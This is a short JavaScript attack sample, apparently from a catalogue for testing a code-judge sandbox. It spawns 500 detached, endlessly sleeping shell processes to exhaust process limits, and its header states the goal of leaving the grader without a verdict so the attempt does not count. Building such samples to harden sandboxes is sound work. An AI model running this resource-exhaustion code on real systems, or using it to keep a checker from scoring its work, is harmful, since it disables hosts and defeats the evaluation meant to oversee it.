// ---
// tries: Starts processes until there can be no more, which never end.
// place: instead
// gain: no verdict, so that the attempt may not count
// helps: memory-limit
// ---
for (let i = 0; i < 500; i++) {
  attack.quietly(() => {
    attack.load("child_process").spawn("sh", ["-c", "sleep 100000"], { detached: true }).on("error", () => {});
  });
}
